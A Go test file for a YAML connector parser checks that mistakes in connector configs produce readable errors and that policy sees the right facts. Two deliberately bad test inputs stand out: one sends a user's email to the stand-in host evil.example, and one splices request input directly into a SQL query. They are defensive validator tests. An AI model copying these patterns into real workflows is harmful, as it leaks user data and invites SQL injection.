package connector

import (
	"fmt"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/runwayhq/runway/runwaytest"
)

// TestProblems: every mistake in connector.yaml is explained where it is,
// in words a non-developer can act on (testdata/problems.golden).
func TestProblems(t *testing.T) {
	t.Parallel()
	m := app(integration("slack", "hooks.slack.com", "SLACK_WEBHOOK_URL"), integration("api", "api.example.com", ""),
		integration("db", "10.1.2.3", "DATABASE_URL"), integration("github", "github.com", "GITHUB_WEBHOOK_SECRET"))
	const form = "trigger:\n  http:\n    path: /contact\n    input:\n      properties:\n        amount: {type: integer}\n        email: {type: string}\nsteps:\n"
	tests := []struct{ name, yaml string }{
		{"unknown field, with a suggestion", form + "  - id: notify\n    slack.post_message:\n      text: \"Total: ${{ request.body.amout }}\"\n"},
		{"unknown variable", form + "  - id: check\n    if: reqest.body.amount > 100\n    then: [{id: stop, respond: {status: 422}}]\n"},
		{"an unknown action", form + "  - id: notify\n    slack.post_mesage: {text: hi}\n"},
		{"wrong types", form + "  - id: notify\n    slack.post_message:\n      text: ${{ request.body.amount }}\n  - id: sum\n    transform: {x: \"${{ request.body.amount + request.body.email }}\"}\n"},
		{"if that is not true or false", form + "  - id: check\n    if: request.body.email\n    then: [{id: stop, respond: {}}]\n"},
		{"later steps read earlier ones", form + "  - id: first\n    transform: {total: \"${{ steps.second.total }}\"}\n  - id: second\n    transform: {total: \"${{ steps.first.totl }}\"}\n"},
		{"undeclared integration", form + "  - id: notify\n    slack.post_message: {integration: slak, text: hi}\n"},
		{"integration without a secret", form + "  - id: mail\n    email.send: {integration: api, from: a@example.com, to: b@example.com, subject: s, text: t}\n"},
		{"undeclared host", form + "  - id: call\n    http.request: {url: \"https://evil.example/v1/${{ request.body.email }}\"}\n"},
		{"plain http to a name", form + "  - id: call\n    http.request: {url: \"http://api.example.com/v1\"}\n"},
		{"values in SQL", form + "  - id: q\n    postgres.query: {integration: db, sql: \"SELECT * FROM t WHERE email = '${{ request.body.email }}'\"}\n"},
		{"duplicate ids and two things at once", form + "  - id: a\n    transform: {x: 1}\n  - id: a\n    transform: {y: 2}\n    respond: {}\n"},
		{"a step doing nothing", form + "  - id: a\n    description: nothing\n"},
		{"keys of another kind", form + "  - id: a\n    transform: {x: 1}\n    then: [{id: b, respond: {}}]\n    retries: 2\n"},
		{"foreach without max, nested, respond inside", form + "  - id: each\n    foreach: request.body.email\n    do:\n      - id: inner\n        foreach: \"[1, 2]\"\n        max: 2\n        do: [{id: x, respond: {}}]\n"},
		{"two triggers", "trigger:\n  http: {path: /a}\n  schedule: {cron: \"0 9 * * *\"}\nsteps:\n  - id: a\n    transform: {x: 1}\n"},
		{"schedule mistakes", "trigger:\n  schedule: {cron: \"0 25 * * *\", time_zone: Mars/Olympus}\nsteps:\n  - id: a\n    respond: {}\n  - id: b\n    transform: {who: \"${{ request.body.name }}\"}\n"},
		{"webhook verification", "trigger:\n  webhook:\n    path: /hook\n    verify: {style: hmac, integration: api}\nsteps:\n  - id: a\n    transform: {x: 1}\n"},
		{"syntax error", form + "  - id: a\n    transform: {x: \"${{ request.body.amount > }}\"}\n"},
		{"schema: unknown key and wrong type", "trigger:\n  http: {path: contact, methd: POST}\nsteps:\n  - id: Notify\n    timeout: soon\n    transform: {}\n"},
	}
	var b strings.Builder
	for _, tt := range tests {
		_, err := Parse([]byte(tt.yaml), m)
		if err == nil {
			t.Errorf("%s: no problem found", tt.name)
			continue
		}
		fmt.Fprintf(&b, "== %s\n%s\n\n", tt.name, err)
	}
	runwaytest.Golden(t, "testdata/problems.golden", []byte(b.String()))
}

// TestFacts: what policy sees of a connector.
func TestFacts(t *testing.T) {
	t.Parallel()
	c := mustParse(t, `
trigger:
  webhook:
    path: /github
    verify: {style: github, integration: github}
steps:
  - id: notify
    slack.post_message: {text: "${{ request.body.action }}"}
  - id: call
    http.request: {url: "https://api.example.com/v1/items", method: POST}
  - id: each
    foreach: request.body.items
    max: 10
    do:
      - id: save
        postgres.query: {integration: db, sql: "INSERT INTO items VALUES ($1)", params: ["${{ item }}"]}
`, app(integration("slack", "hooks.slack.com", "SLACK_WEBHOOK_URL"), integration("api", "api.example.com", ""),
		integration("db", "10.1.2.3", "DATABASE_URL"), integration("github", "github.com", "GITHUB_WEBHOOK_SECRET")))
	want := Facts{
		Trigger:      TriggerFacts{Kind: "webhook", Method: "POST", Path: "/github", Verify: "github"},
		Actions:      []string{"http.request", "postgres.query", "slack.post_message"},
		Steps:        4,
		Integrations: []string{"api", "db", "github", "slack"},
		Hosts:        []string{"10.1.2.3", "api.example.com", "hooks.slack.com"},
	}
	if diff := cmp.Diff(want, c.Facts()); diff != "" {
		t.Errorf("facts (-want +got):\n%s", diff)
	}
}
